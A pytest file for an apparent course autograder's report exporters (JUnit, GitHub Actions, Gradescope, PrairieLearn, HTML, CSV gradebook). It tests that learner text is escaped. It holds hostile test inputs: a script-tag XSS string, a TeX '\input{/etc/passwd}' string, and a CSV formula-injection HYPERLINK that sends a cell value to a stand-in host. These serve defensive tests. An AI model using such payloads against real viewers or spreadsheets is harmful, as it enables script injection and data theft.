"""Every output format, rendered from one score report: JUnit XML, GitHub Actions, Gradescope,
PrairieLearn, HTML (opened in a real browser where one is installed), and the class summary.

Most tests render a report written out by hand below, whose totals are counted by hand; the
last ones check that real gradings fill what the formats need (a failure's line in the
learner's file, the suites' artifacts)."""
import csv
import json
import math
import shutil
import subprocess
import sys
import xml.etree.ElementTree as ET
from dataclasses import replace
from pathlib import Path

import jsonschema
import numpy as np
import pytest

from grader.course import COURSE
from grader.reports import github
from grader.reports.gradescope import gradescope_results
from grader.reports.html import report_html
from grader.reports.junit import junit_xml
from grader.reports.prairielearn import SIZE_LIMIT, prairielearn_results
from grader.reports.summary import Entry, write_gradebook
from grader.running import runner
from grader.schema import report as score_report
from grader.schema.report import NO_GPU, NO_SOCKETS, ModuleInfo, ScoreReport, TaskResult, write_report
from grader.session.outcome import ARTIFACT_LIMIT, as_artifacts

SCHEMA = json.loads((Path(__file__).parent / "schemas" / "gradescope_results.schema.json").read_text())
HOSTILE = 'got <script>alert("x")</script> & | pipe, colon: 100%\nsecond line'


def result(task, name, status, points=1.0, suite="visible", concept="Stable softmax", **extra):
    folder = f"exercises/{task}/test_x.py" if suite == "visible" else f"tests/hidden/{task}/test_x_hidden.py"
    graded = extra.pop("graded", status != "skipped")
    return score_report.TestResult(id=f"{folder}::test_{name}", task=task, suite=suite, title=name.replace("_", " "),
                                   status=status, graded=graded, max_points=points, concept=concept, duration_s=0.25,
                                   **extra)


def test_the_totals_note_names_each_kind_of_test_left_out_with_its_reason():
    a = "01_einsum_attention"
    tests = [result(a, "bf16", "skipped", points=2.0, feedback=NO_GPU.feedback),
             result(a, "ranks", "skipped", points=3.0, feedback=NO_SOCKETS.feedback),
             result(a, "ranks_4", "skipped", points=1.5, feedback=NO_SOCKETS.feedback),
             result(a, "graded_skip", "skipped", graded=True, feedback=NO_GPU.feedback),
             result(a, "passed", "passed")]
    assert score_report.not_graded_note(tests) == (
        "GPU tests worth 2 points were not graded here (too few CUDA GPUs); distributed tests worth 4.5 points were not "
        "graded here (the uid level gives learner code no sockets): they are left out of the total, not counted as "
        "failed.")
    assert score_report.not_graded_note(tests[2:]).startswith("Distributed tests worth 1.5 points were not graded")
    assert score_report.not_graded_note(tests[3:]) == ""


def test_a_task_with_no_test_graded_here_shows_no_percentage_rather_than_zero(tmp_path):
    d = "07_distributed"
    ranks = TaskResult(d, "Exercise 07", ModuleInfo("/x/distributed.py", True), [
        result(d, "ranks", "skipped", points=2.0, feedback=NO_SOCKETS.feedback)])
    summary = tmp_path / "summary.md"
    with open(tmp_path / "out", "w") as stream:
        github.publish(ScoreReport(run={}, submission={}, tasks=[ranks]), {"GITHUB_STEP_SUMMARY": str(summary)}, stream)
    assert "| 07_distributed | 0 / 0 | — | 0 | 0 |" in summary.read_text()
    assert score_report.percent_text(1, 4) == "25.0" and score_report.percent_text(0, 0) == "—"


def hand_written_report(workspace: Path) -> ScoreReport:
    """Task 01: 1 of 6 points earned (a GPU test of 2 points not graded); task 02: 3 of 4."""
    attention = workspace / "exercises" / "01_einsum_attention" / "attention.py"
    a = "01_einsum_attention"
    t01 = TaskResult(a, "Exercise 01: attention as einsum", ModuleInfo(str(attention), True, "0" * 64), [
        result(a, "softmax_rows", "passed"),
        result(a, "softmax_minus_inf", "failed", feedback=HOSTILE, output="printed\x00 by the learner",
               location={"line": 19, "function": "softmax", "code": "return e"}),
        result(a, "heads", "timeout", concept="Heads", feedback="split_heads() did not return within the time limit",
               location={"line": 27, "function": "split_heads", "code": "def split_heads(x, n_heads):"}),
        result(a, "masks", "crashed", suite="hidden", points=2.0, concept="Masks", feedback="the process died"),
        result(a, "bf16_on_cuda", "skipped", suite="hidden", points=2.0, concept="Attention in torch",
               feedback=NO_GPU.feedback),
        result(a, "other_skip", "skipped", graded=True, concept="Masks", feedback="skipped on purpose"),
    ])
    b = "02_train_loop"
    curve = {"learner": {"step": [10, 20, 30], "loss": [4.0, 3.0, None], "final_eval_loss": 2.6},
             "reference": {"step": [10, 20, 30], "loss": [3.9, 2.9, 2.5], "final_eval_loss": 2.3},
             "floor": 1.94, "pass_line": 2.39, "max_steps": 30}
    breakdown = {"profile": "datasets/profiles/cpu_train_step",
                 "steps": [{"step": 1, "wall_ms": 10.0, "data_loading_ms": 1.0, "forward_ms": 3.0, "backward_ms": 4.0,
                            "optimizer_ms": 1.0}, "not a row"]}
    graded_elsewhere = workspace.parent / "elsewhere" / "train_loop.py"      # not under the workspace
    t02 = TaskResult(b, "Exercise 02: the training loop", ModuleInfo(str(graded_elsewhere), True), [
        result(b, "collate", "passed", points=3.0, concept="Batching and padding"),
        result(b, "converges", "failed", suite="hidden", concept="Convergence", feedback="eval loss 2.6 > 2.39",
               artifacts={"loss_curve": curve, "step_breakdown": breakdown}),
    ])
    return ScoreReport(run={"run_id": "20260101T000000Z-abcdef", "started_at": "2026-01-01T00:00:00+00:00",
                            "duration_s": 41.2, "data_version": "e7f19fc0" * 8},
                       submission={"path": str(workspace), "commit": None}, tasks=[t01, t02])


@pytest.fixture
def report(tmp_path):
    return hand_written_report(tmp_path)


def test_the_hand_written_report_adds_up(report):
    """The counts the tests below rely on, from the report's own rules."""
    assert (report.total.points, report.total.max_points, report.total.not_graded_points) == (4.0, 10.0, 2.0)
    assert [t.lost for t in report.tests()] == [False, True, True, True, False, True, False, True]


def test_a_report_reads_back_as_written_and_refuses_a_status_it_does_not_know(report, tmp_path):
    write_report(report, tmp_path / "r.json")
    assert score_report.read_report(tmp_path / "r.json").to_json() == report.to_json()
    data = report.to_json()
    data["tasks"][0]["tests"][0]["status"] = "passed-ish"
    (tmp_path / "odd.json").write_text(json.dumps(data))
    with pytest.raises(score_report.ReportError, match="passed-ish"):
        score_report.read_report(tmp_path / "odd.json")


# ---------------------------------------------------------------- JUnit XML

def test_junit_xml_parses_back_to_the_report(report):
    root = ET.fromstring(junit_xml(report))
    assert root.tag == "testsuites" and root.get("tests") == "8"
    assert (root.get("failures"), root.get("errors")) == ("4", "0")
    suites = {s.get("name"): s for s in root.findall("testsuite")}
    assert set(suites) == {"01_einsum_attention", "02_train_loop"}
    cases = {c.get("name"): c for c in root.iter("testcase")}
    assert cases["test_softmax_rows"].find("failure") is None and cases["test_softmax_rows"].find("skipped") is None
    failure = cases["test_softmax_minus_inf"].find("failure")
    assert failure.get("type") == "failed" and "alert" in failure.text and "Your line 19, in softmax: return e" in failure.text
    assert cases["test_heads"].find("failure").get("type") == "timeout"
    assert cases["test_masks"].find("failure").get("type") == "crashed"
    assert cases["test_bf16_on_cuda"].find("skipped").get("message") == NO_GPU.feedback
    assert cases["test_softmax_minus_inf"].find("system-out").text == "printed\ufffd by the learner"
    props = {p.get("name"): p.get("value") for p in suites["01_einsum_attention"].find("properties")}
    assert (props["points"], props["max_points"], props["not_graded_points"]) == ("1", "6", "2")
    graded = {p.get("name"): p.get("value") for p in cases["test_bf16_on_cuda"].find("properties")}
    assert graded["graded"] == "false" and graded["concept"] == "Attention in torch"


def test_junit_xml_reports_an_incomplete_grading_as_an_error(report):
    report.problems.append("could not collect tests/hidden/01: SyntaxError")
    root = ET.fromstring(junit_xml(report))
    assert root.get("errors") == "1"
    error = root.find("testsuite[@name='grading']/testcase/error")
    assert "SyntaxError" in error.text


# ---------------------------------------------------------------- GitHub Actions

def test_github_annotations_point_at_the_learners_lines(report, tmp_path):
    lines = github.workflow_commands(report, tmp_path)
    assert len(lines) == 5 and all(line.startswith("::error ") for line in lines)
    first = lines[0]
    assert "file=exercises/01_einsum_attention/attention.py,line=19" in first
    # properties escape ':' and ','; the message escapes newlines and '%'
    assert "title=01_einsum_attention%3A softmax minus inf (1 pt%2C failed)" in first
    assert first.endswith("::" + HOSTILE.replace("%", "%25").replace("\n", "%0A"))
    hidden_crash = next(line for line in lines if "masks" in line)
    assert "line=" not in hidden_crash and "file=exercises/01_einsum_attention/attention.py" in hidden_crash
    # a module outside the workspace is placed where a fork keeps it
    assert "file=exercises/02_train_loop/train_loop.py" in lines[-1]


def test_github_keeps_to_ten_error_annotations_and_summarises_the_rest(report, tmp_path):
    task = report.tasks[0]
    task.tests += [result(task.task, f"extra_{i}", "failed", feedback=f"extra {i}") for i in range(10)]
    lines = github.workflow_commands(report, tmp_path)
    lost = sum(t.lost for t in report.tests())
    assert lost == 15 and len(lines) == github.MAX_ERRORS
    assert lines[-1].startswith("::error title=6 more test(s) to fix::6 more lost test(s)")


def test_github_publish_writes_the_summary_and_outputs_where_actions_reads_them(report, tmp_path):
    environ = {"GITHUB_STEP_SUMMARY": str(tmp_path / "summary.md"), "GITHUB_OUTPUT": str(tmp_path / "output"),
               "GITHUB_WORKSPACE": str(tmp_path)}
    (tmp_path / "summary.md").write_text("earlier step\n")
    stream = open(tmp_path / "stdout", "w")
    github.publish(report, environ, stream)
    stream.close()
    summary = (tmp_path / "summary.md").read_text()
    assert summary.startswith("earlier step\n## Score: 4 / 10 points (40.0%)")
    assert "| 01_einsum_attention | 1 / 6 | 16.7 | 1 | 4 |" in summary
    assert "| 02_train_loop | 3 / 4 | 75.0 | 1 | 1 |" in summary
    assert f"```\n{HOSTILE}\n```" in summary        # in a code block: shown, never rendered
    assert "(Your line 19, in softmax: return e)" in summary and "GPU tests worth 2 points were not graded here" in summary
    assert (tmp_path / "output").read_text() == "points=4\nmax-points=10\npercent=40.00\n"
    assert (tmp_path / "stdout").read_text().count("::error ") == 5


# ---------------------------------------------------------------- Gradescope

def per_test(results: dict) -> list[dict]:
    """The entries of Gradescope's results that are tests (not the totals shown later)."""
    return [t for t in results["tests"] if not t["extra_data"].get("totals")]


def test_gradescope_results_follow_the_specification(report):
    results = gradescope_results(report)
    jsonschema.validate(results, SCHEMA)
    assert results["score"] == 4.0 and results["execution_time"] == 42
    tests = {t["name"].split(": ", 1)[1].split(" (")[0]: t for t in per_test(results)}
    assert tests["softmax rows"] == {**tests["softmax rows"], "score": 1.0, "max_score": 1.0, "status": "passed",
                                     "visibility": "visible", "tags": ["Stable softmax"]}
    assert tests["masks"]["status"] == "failed" and tests["masks"]["visibility"] == "after_published"
    assert tests["masks"]["output"].startswith("[crashed]")
    assert "Your line 19, in softmax: return e" in tests["softmax minus inf"]["output"]
    gpu = tests["bf16 on cuda"]
    assert "status" not in gpu and (gpu["score"], gpu["max_score"]) == (0.0, 0.0)
    assert NO_GPU.feedback in gpu["name"] and NO_GPU.feedback in gpu["tags"]
    assert len(per_test(results)) == len(report.tests())


def test_gradescope_hidden_visibility_is_configurable(report):
    results = gradescope_results(report, hidden_visibility="after_due_date")
    assert {t["extra_data"]["suite"]: t["visibility"] for t in per_test(results)} == \
        {"visible": "visible", "hidden": "after_due_date"}
    with pytest.raises(ValueError):
        gradescope_results(report, hidden_visibility="sometimes")


def test_gradescope_shows_learners_now_only_the_totals_of_the_tests_they_may_see(report):
    """Gradescope hides the total score while tests are hidden; the top-level output, shown at
    once, must not tell it either: it counts the visible suites, and the totals with the hidden
    suites are shown as the hidden tests are."""
    results = gradescope_results(report)
    jsonschema.validate(results, SCHEMA)
    shown_now = results["output"]
    assert "**Visible tests: 4 / 7 points (57.1%)**" in shown_now       # 01: 1 of 4 visible points; 02: 3 of 3
    assert "| Exercise 01: attention as einsum | 1 / 4 | 25.0 |" in shown_now
    assert "/ 10" not in shown_now and "1 / 6" not in shown_now and "GPU tests worth" not in shown_now
    assert "when your instructor publishes the grades" in shown_now
    (totals,) = [t for t in results["tests"] if t["name"] == "Your score with the graded suite"]
    assert totals["visibility"] == "after_published" and "score" not in totals and "max_score" not in totals
    assert "**4 / 10 points (40.0%)**" in totals["output"] and "| Exercise 01: attention as einsum | 1 / 6 | 16.7 |" \
        in totals["output"] and "GPU tests worth 2 points" in totals["output"]
    later = gradescope_results(report, hidden_visibility="after_due_date")
    assert "after the due date" in later["output"] and \
        [t["visibility"] for t in later["tests"] if t["name"] == totals["name"]] == ["after_due_date"]
    # hidden suites shown at once: the whole total is shown at once, and no second part
    everything = gradescope_results(report, hidden_visibility="visible")
    assert "**4 / 10 points (40.0%)**" in everything["output"]
    assert not [t for t in everything["tests"] if t["name"] == totals["name"]]


def test_the_schema_refuses_what_the_specification_does_not_allow():
    """The schema can fail: a misspelt key, a status Gradescope does not know, no score at all."""
    for bad in ({"score": 1, "tests": [{"score": 1, "maxscore": 1}]}, {"score": 1, "tests": [{"status": "skipped"}]},
                {"tests": [{"max_score": 1}]}, {"score": 1, "visibility": "later"}):
        with pytest.raises(jsonschema.ValidationError):
            jsonschema.validate(bad, SCHEMA)


# ---------------------------------------------------------------- PrairieLearn

def test_prairielearn_results_score_in_zero_one(report):
    results = prairielearn_results(report)
    assert results["gradable"] is True and math.isclose(results["score"], 0.4)
    assert results["message"] == "4 / 10 points (40.0%)"
    graded_at = replace(report, isolation={"level": "none", "reason": "isolation switched off (--isolation none)"})
    assert prairielearn_results(graded_at)["message"] == "4 / 10 points (40.0%); isolation of your code during grading: none"
    assert len(results["tests"]) == 8
    gpu = next(t for t in results["tests"] if "bf16" in t["name"])
    assert (gpu["points"], gpu["max_points"]) == (0.0, 0.0) and "not graded here" in gpu["message"]
    failed = next(t for t in results["tests"] if "minus inf" in t["name"])
    assert (failed["points"], failed["max_points"], failed["description"]) == (0.0, 1.0, "Stable softmax")
    assert failed["message"].endswith("Your line 19, in softmax: return e")


def test_prairielearn_does_not_score_what_could_not_be_graded(report):
    report.problems.append("the grading process died")
    results = prairielearn_results(report)
    assert results["gradable"] is False and "score" not in results
    assert results["format_errors"] == ["The grading is incomplete: the grading process died"]
    tests = [result("01_einsum_attention", "a", "error")]
    task = TaskResult("01_einsum_attention", "t", ModuleInfo("/x/attention.py", False), tests)
    missing = ScoreReport(run={}, submission={}, tasks=[task])
    assert prairielearn_results(missing)["format_errors"] == ["01_einsum_attention: /x/attention.py was not found"]


def test_prairielearn_results_stay_under_one_megabyte(report):
    for test in report.tests():
        test.output, test.feedback = "o" * 400_000, "f" * 2000
    results = prairielearn_results(report)
    assert len(json.dumps(results)) <= SIZE_LIMIT
    assert all(t["output"] == "" for t in results["tests"]) and "1 MB" in results["output"]


# ---------------------------------------------------------------- HTML

def test_html_report_shows_bars_feedback_and_figures_escaped(report):
    page = report_html(report)
    assert page.count('class="task-row"') == 2
    assert page.count('class="concept-row"') == 5    # 01: Stable softmax, Heads, Masks; 02: two sections
    assert page.count('class="test lost"') == 5
    assert "&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;" in page and "<script>alert" not in page
    assert page.count("data:image/png;base64,") == 2     # the loss curves and the step breakdown
    assert "Your line 19, in softmax: return e" in page
    assert "not graded here" in page and "https://" not in page and "http://" not in page


MATHTEXT = "$\\undefinedmacro{x}$"        # matplotlib's mathtext refuses it: it raised inside the page


def breakdown_of(*steps) -> dict:
    return {"profile": "datasets/profiles/cpu_train_step",
            "steps": [{"step": step, "wall_ms": 10.0, "forward_ms": 4.0, "backward_ms": 5.0} for step in steps]}


def png_size(png: bytes) -> tuple[int, int]:
    assert png[:8] == b"\x89PNG\r\n\x1a\n"
    return int.from_bytes(png[16:20], "big"), int.from_bytes(png[20:24], "big")


def test_learner_text_in_figures_is_drawn_as_plain_text():
    import matplotlib

    from grader.reports import figures
    assert png_size(figures.step_breakdown_png(breakdown_of(MATHTEXT, 2)))
    # mathtext ignores spaces, so it draws these two alike; as text they differ
    assert figures.step_breakdown_png(breakdown_of("$x$")) != figures.step_breakdown_png(breakdown_of("$ x$"))
    # an instructor's matplotlibrc may turn TeX on: a learner's string still never reaches TeX
    plain = figures.step_breakdown_png(breakdown_of("\\input{/etc/passwd}"))
    with matplotlib.rc_context({"text.usetex": True}):
        assert figures.step_breakdown_png(breakdown_of("\\input{/etc/passwd}")) == plain


def test_figures_draw_any_learner_steps_at_a_bounded_size():
    from grader.reports import figures
    nasty = ["lone \ud800 surrogate", "NUL \x00", "\n" * 500, "x" * 100_000, "\u202eright to left", "\x1b[2J",
             {"a": [1]}, None, 1e308]
    assert png_size(figures.step_breakdown_png(breakdown_of(*nasty)))
    _, height = png_size(figures.step_breakdown_png(breakdown_of(*range(5000))))     # 64 KiB of rows
    assert height == png_size(figures.step_breakdown_png(breakdown_of(*range(figures.MAX_STEPS_DRAWN))))[1]


def test_html_report_draws_a_mathtext_step_name_as_text(report):
    (converges,) = [t for t in report.tests() if t.artifacts]
    converges.artifacts["step_breakdown"] = breakdown_of(MATHTEXT, "$x^2$")
    page = report_html(report)
    assert page.count("data:image/png;base64,") == 2 and "could not be drawn" not in page


def chromium() -> str | None:
    return shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")


@pytest.mark.skipif(chromium() is None, reason="no Chromium installed (Debian: apt-get install chromium): "
                                               "the HTML report is checked without a browser only")
def test_html_report_renders_in_a_real_browser(report, tmp_path):
    page = tmp_path / "report.html"
    page.write_text(report_html(report))
    browser = [chromium(), "--headless", "--no-sandbox", "--disable-gpu", "--hide-scrollbars", "--window-size=1100,2400"]
    dom = subprocess.run([*browser, "--dump-dom", page.as_uri()], capture_output=True, text=True, timeout=120).stdout
    assert 'data-images-shown="2"' in dom, "the embedded figures did not decode in the browser"
    assert dom.count('class="concept-row"') == 5 and dom.count('class="test lost"') == 5
    shot = tmp_path / "report.png"
    subprocess.run([*browser, f"--screenshot={shot}", page.as_uri()], capture_output=True, timeout=120)
    assert shot.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n" and shot.stat().st_size > 20_000


# ---------------------------------------------------------------- the class summary

def test_class_summary_from_a_folder_of_reports(report, tmp_path):
    batch = tmp_path / "grading"
    write_report(report, batch / "alice" / "score_report.json")
    perfect = hand_written_report(tmp_path)
    for test in perfect.tests():
        test.status = "passed" if test.graded else test.status
    write_report(perfect, batch / "bob" / "score_report.json")
    (batch / "carol").mkdir()
    (batch / "carol" / "score_report.json").write_text("{not json")
    done = subprocess.run([sys.executable, "-m", "grader.cli", "summary", str(batch)], capture_output=True, text=True,
                          cwd=COURSE.root, timeout=300)
    assert done.returncode == 3, done.stdout + done.stderr      # carol's report is unreadable: said, not hidden
    with open(batch / "summary.csv") as f:
        rows = {row["submission"]: row for row in csv.DictReader(f)}
    assert (rows["alice"]["01_einsum_attention"], rows["alice"]["points"], rows["alice"]["percent"]) == ("1.0", "4.0", "40.0")
    assert rows["bob"]["percent"] == "100.0" and rows["bob"]["status"] == "complete"
    assert rows["carol"]["status"].startswith("unreadable")
    with open(batch / "concepts.csv") as f:
        concepts = list(csv.DictReader(f))
    # alice lost every point of Masks (2 crashed + 1 skipped), of Heads, Convergence; bob none
    first = concepts[0]
    assert (first["task"], first["concept"], first["lost_share"], first["mean_points_lost"]) == \
        ("01_einsum_attention", "Masks", "0.5", "1.5")
    assert {(c["concept"], c["lost_share"]) for c in concepts} >= {("Convergence", "0.5"), ("Batching and padding", "0.0")}
    page = (batch / "class.html").read_text()
    assert page.count('class="lost-concept"') == 4 and page.count('class="submission-row"') == 2
    assert "data:image/png;base64," in page and "carol: unreadable" in page


def test_gradebook_cells_never_run_as_formulas(report, tmp_path):
    """A learner names the submission (its folder, its zip); a spreadsheet opening summary.csv
    must show that name, not run it."""
    named = '=HYPERLINK("http://example.invalid?q="&C2,"feedback")'
    entries = [Entry(named, f"-{named}", report), Entry("@SUM(1+1)", "+1", None, "\tbroken"), Entry("bob", "/subs/bob", report)]
    write_gradebook(tmp_path / "summary.csv", entries)
    with open(tmp_path / "summary.csv") as f:
        rows = list(csv.DictReader(f))
    assert [(r["submission"], r["path"]) for r in rows] == [("'" + named, "'-" + named), ("'@SUM(1+1)", "'+1"),
                                                            ("bob", "/subs/bob")]
    assert rows[1]["status"] == "unreadable: \tbroken" and float(rows[0]["points"]) == report.total.points


# ---------------------------------------------------------------- what gradings put in the report

def test_artifacts_become_json_data():
    kept = as_artifacts({"curve": {"loss": [1.0, float("nan"), np.float32(0.5)], "steps": (1, 2, np.int64(3))},
                         "object": {"model": object()}, "huge": ["x" * 100] * ARTIFACT_LIMIT})
    assert kept["curve"] == {"loss": [1.0, None, 0.5], "steps": [1, 2, 3]}
    assert kept["object"]["dropped"].startswith("not JSON data") and "above" in kept["huge"]["dropped"]
    json.dumps(kept, allow_nan=False)


def test_the_recorded_reference_curve_is_for_the_graded_run():
    from grader.schema.record import data_version
    from grader.worker.loading import load_module
    convergence = load_module(COURSE.task_named("02").hidden_dir / "convergence.py")
    recorded = json.loads(convergence.REFERENCE_CURVE.read_text())
    assert (recorded["run"], recorded["model"], recorded["eval_documents"]) == \
        (convergence.RUN, convergence.MODEL, convergence.EVAL_DOCUMENTS), \
        "the convergence run changed: re-record with python tests/hidden/02_train_loop/convergence.py"
    assert recorded["data_version"] == data_version(), "the data changed: re-record the reference curve"
    assert len(recorded["curve"]["step"]) == convergence.RUN["max_steps"] // convergence.RUN["log_every"]


RAISES_IN_A_HELPER = (COURSE.solutions / "01_einsum_attention" / "attention.py").read_text().replace(
    "def causal_mask(q_len, k_len):", "def _positions(n):\n    return list(range(n))[n]\n\n\ndef causal_mask(q_len, k_len):\n"
    "    _positions(q_len)")


@pytest.fixture(scope="module")
def gradings(tmp_path_factory):
    """Official gradings (worker backend) of: the reference on exercise 05's step-breakdown test;
    a softmax that forgets to normalise; a causal_mask whose helper raises."""
    tmp = tmp_path_factory.mktemp("trees")
    wrong = tmp / "wrong" / "01_einsum_attention"
    wrong.mkdir(parents=True)
    (wrong / "attention.py").write_text((COURSE.solutions / "01_einsum_attention" / "attention.py").read_text().replace(
        "return e / np.where(total == 0, 1.0, total)", "return e"))
    raising = tmp / "raising" / "01_einsum_attention"
    raising.mkdir(parents=True)
    (raising / "attention.py").write_text(RAISES_IN_A_HELPER)
    only_the_trace = ["-k", "test_step_breakdown_matches_the_trace"]
    jobs = [runner.GradingRun(COURSE.solutions, [COURSE.task_named("05")], extra_args=only_the_trace),
            runner.GradingRun(wrong.parent, [COURSE.task_named("01")], hidden=False),
            runner.GradingRun(raising.parent, [COURSE.task_named("01")], hidden=False)]
    return runner.run_many(jobs, workers=2)


@pytest.mark.e2e
def test_a_grading_records_the_step_breakdown_artifact(gradings):
    (test,) = gradings[0].tests()
    assert test.status == "passed"
    rows = test.artifacts["step_breakdown"]["steps"]
    assert [row["step"] for row in rows] == [1, 2, 3]     # the shipped recording: warmup 1, 3 active steps
    assert all(row["wall_ms"] > row["forward_ms"] + row["backward_ms"] > 0 for row in rows)


@pytest.mark.e2e
def test_a_wrong_result_points_at_the_return_of_the_function_called(gradings):
    lost = {t.id.split("::")[-1]: t for t in gradings[1].tests() if t.lost}
    source = (COURSE.solutions / "01_einsum_attention" / "attention.py").read_text().replace(
        "return e / np.where(total == 0, 1.0, total)", "return e").splitlines()
    line = next(i for i, text in enumerate(source, start=1) if text.strip().startswith("return e  "))
    assert lost["test_softmax_rows_sum_to_one"].location == \
        {"line": line, "function": "softmax", "code": source[line - 1].strip()}
    # attention() calls the broken softmax: the wrong result is attention's, and so is the line
    assert lost["test_attention_matches_pytorch"].location["function"] == "attention"


@pytest.mark.e2e
def test_an_exception_points_at_the_learners_line_that_raised(gradings):
    lost = [t for t in gradings[2].tests() if t.lost]
    assert lost and all(t.location["function"] == "_positions" for t in lost)
    line = RAISES_IN_A_HELPER.splitlines().index("    return list(range(n))[n]") + 1
    assert {t.location["line"] for t in lost} == {line}
    assert all(t.location["code"] == "return list(range(n))[n]" for t in lost)
